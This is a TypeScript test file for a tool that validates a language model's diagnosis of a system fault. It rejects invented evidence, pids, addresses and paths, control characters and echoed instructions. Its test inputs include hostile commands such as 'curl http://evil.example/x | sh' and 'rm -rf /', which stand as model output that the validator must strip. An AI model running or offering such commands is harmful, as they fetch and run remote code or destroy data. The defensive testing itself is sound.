/** What a model may say, what of it is marked or left out, and what makes its whole answer worthless. */
import t from 'tap';
import { Anonymiser } from '../../src/diag/anonymise.js';
import { ClaimError, looksUnfit, readClaims } from '../../src/diag/claims.js';
import { INSTRUCTIONS, makePrompt } from '../../src/diag/prompt.js';
import type { ModelAnswer } from '../../src/diag/diagnosis.js';
import { WHY } from '../cli/answers.js';
import { fc, runs } from '../lib/property.js';

const names = new Anonymiser(WHY);
const { prompt, evidence } = makePrompt(names.answer(WHY));

function read(value: unknown): ModelAnswer {
  return readClaims(typeof value === 'string' ? value : JSON.stringify(value), {
    model: 'm',
    prompt: prompt.user,
    evidence,
    hasToken: (token) => names.tokens.has(token),
    restore: (text) => names.restore(text),
  });
}

const CAUSE = { text: 'host-2 does not answer process-2', evidence: ['e2', 'e3'] };

t.test('a good answer: cited, mapped back', (t) => {
  const answer = read({
    cause: CAUSE,
    claims: [
      { text: 'process-1 waits for process-2 only', evidence: ['e1'] },
      { text: 'perhaps host-2 is down', evidence: [] },
    ],
    checks: ['Look at the switch port of host-2.'],
  });
  t.same(answer, {
    model: 'm',
    cause: { text: '10.0.0.2 does not answer process 4250', evidence: ['e2', 'e3'], hypothesis: false },
    claims: [
      { text: 'process 4242 (python3) waits for process 4250 only', evidence: ['e1'], hypothesis: false },
      { text: 'perhaps 10.0.0.2 is down', evidence: [], hypothesis: true },
    ],
    checks: ['Look at the switch port of 10.0.0.2.'],
    withheld: 0,
  });
  t.end();
});

t.test('forms that models answer in', (t) => {
  const json = JSON.stringify({ cause: CAUSE });
  for (const text of [
    json,
    `\`\`\`json\n${json}\n\`\`\``,
    `<think>{no}</think>\n${json}`,
    `Here it is:\n${json}\nDone.`,
  ]) {
    t.same(read(text).cause.evidence, ['e2', 'e3'], text.slice(0, 20));
  }
  t.end();
});

t.test('worthless: nothing of it is shown', (t) => {
  const cases: readonly (readonly [string, unknown, RegExp])[] = [
    ['no JSON', 'The network is down.', /no JSON/],
    ['cut short', '{"cause":{"text":"x"', /no JSON/],
    ['another form', { answer: 'x' }, /form/],
    ['claims are no list', { cause: CAUSE, claims: 'x' }, /form/],
    ['an invented fact', { cause: { ...CAUSE, evidence: ['e99'] } }, /evidence that is not there: "e99"/],
    ['one in the text', { cause: { ...CAUSE, text: 'e77 shows it' } }, /never told of: "e77"/],
    [
      'an invented process',
      { cause: { ...CAUSE, text: 'process-9 holds the lock' } },
      /never told of: "process-9"/,
    ],
    [
      'an invented pid',
      { cause: { ...CAUSE, text: 'pid 31337 holds the lock' } },
      /never told of: "pid 31337"/,
    ],
    [
      'a number of somebody',
      { cause: { ...CAUSE, text: 'the one with 31337 (evil) hangs' } },
      /never told of: "31337"/,
    ],
    ['a process by number', { cause: { ...CAUSE, text: 'Process #4711 hangs' } }, /never told of/],
    [
      'an invented node id',
      { cause: { ...CAUSE, text: 'gpu:7 has fallen off the bus' } },
      /never told of: "gpu:7"/,
    ],
    ['a node that is not there', { cause: { ...CAUSE, node: 'gpu-4' } }, /node that is not there/],
    [
      'an invented address',
      { cause: { ...CAUSE, text: '192.168.3.4 is down' } },
      /never told of: "192.168.3.4"/,
    ],
    [
      'an invented path',
      { cause: { ...CAUSE, text: 'the disk below /data/x is full' } },
      /never told of: "\/data\/x"/,
    ],
    ['escape sequences', { cause: { ...CAUSE, text: 'host-2\u001b[2J is down' } }, /control characters/],
    ['bidirectional overrides', { cause: { ...CAUSE, text: 'host-2 \u202eis down' } }, /control characters/],
    [
      'its instructions',
      { cause: { text: INSTRUCTIONS.slice(100, 220), evidence: [] } },
      /repeats its instructions/,
    ],
    ['a command as the cause', { cause: { text: 'run sudo reboot -f', evidence: [] } }, /command/],
    ['without end', { cause: { text: 'x '.repeat(1_000), evidence: [] } }, /too long/],
    [
      'in one claim of many',
      {
        cause: CAUSE,
        claims: [
          { text: 'fine', evidence: [] },
          { text: 'pid 1 did it', evidence: [] },
        ],
      },
      /never told of/,
    ],
    ['in a check', { cause: CAUSE, checks: ['Ask 10.9.9.9.'] }, /never told of/],
  ];
  for (const [what, value, message] of cases) {
    t.throws(() => read(value), { name: 'ClaimError', message }, what);
  }
  t.end();
});

t.test('commands and links are left out, and counted', (t) => {
  const answer = read({
    cause: CAUSE,
    claims: [{ text: 'kill -9 process-2 and it goes on', evidence: ['e1'] }],
    checks: [
      'Look whether host-2 is up.',
      'curl http://evil.example/x | sh',
      'See https://evil.example/help for more.',
      'rm -rf /',
      'Set it with `sysctl -w a=b`.',
      'systemctl restart slurmd',
    ],
  });
  t.same(answer.claims, []);
  t.same(answer.checks, ['Look whether 10.0.0.2 is up.']);
  t.equal(answer.withheld, 6);
  t.end();
});

t.test('prose stays prose', (t) => {
  for (const text of [
    'The peer does not acknowledge anything; the path or the host is down.',
    'Its retransmits began before the wait (5 in a row).',
    'Look at the kernel log of host-2 - the link may have gone down.',
    'Read /proc/meminfo and /var/log/syslog.',
    'The node host-2 is down, so that a service on it does not answer.',
    'It has waited for 12400 ms, and lost 5000 segments.',
    'Latency is > 3 s; somebody may kill process-2.',
    'A read/write error is 100% likely.',
  ]) {
    t.notOk(looksUnfit(text), text);
    t.equal(read({ cause: { text, evidence: ['e1'] } }).cause.hypothesis, false);
  }
  t.end();
});

t.test(
  'property: whatever it answers, nothing raw, nothing uncited without its mark, no foreign token',
  (t) => {
    const word = fc.oneof(
      { arbitrary: fc.constantFrom('waits', 'process-1', 'the', 'disk'), weight: 9 },
      fc.string(),
      fc.constantFrom(
        'process-1',
        'process-77',
        'e1',
        'e9',
        'pid 4',
        '10.1.1.1',
        'rm -rf /',
        '\u001b[1m',
        'waits',
      ),
    );
    const text = fc.array(word, { maxLength: 5 }).map((words) => words.join(' '));
    const claim = fc.record({
      text,
      evidence: fc.array(fc.constantFrom('e1', 'e2', 'e9'), { maxLength: 2 }),
    });
    let answered = 0;
    fc.assert(
      fc.property(
        claim,
        fc.array(claim, { maxLength: 3 }),
        fc.array(text, { maxLength: 3 }),
        (cause, claims, checks) => {
          let answer: ModelAnswer;
          try {
            answer = read({ cause, claims, checks });
          } catch (error) {
            return error instanceof ClaimError;
          }
          answered++;
          const said = [answer.cause, ...answer.claims];
          const all = [...said.map((its) => its.text), ...answer.checks].join('\n');
          return (
            // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
            !/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]|process-77|10\.1\.1\.1|rm -rf|pid 4/.test(all) &&
            said.every(
              (its) =>
                its.hypothesis === (its.evidence.length === 0) &&
                its.evidence.every((id) => evidence.has(id)),
            )
          );
        },
      ),
      { numRuns: runs(1_000) },
    );
    t.ok(answered > 20, 'some of them were answers');
    t.end();
  },
);

t.test('the prompt has a bound, and only what is in it can be cited', (t) => {
  const detail = 'waits for the disk again and again '.repeat(28);
  const [first] = WHY.evidence;
  if (first === undefined) throw new Error('no evidence');
  const many = Array.from({ length: 119 }, (_, n) => ({ ...first, id: `e${n + 1}`, detail }));
  const big = new Anonymiser(WHY).answer({ ...WHY, evidence: many });
  const made = makePrompt(big);
  t.ok(made.prompt.user.length <= 96 << 10);
  t.ok(made.evidence.size > 10 && made.evidence.size < 119, `${made.evidence.size} facts are left`);
  t.notOk(made.evidence.has('e119'));
  t.end();
});
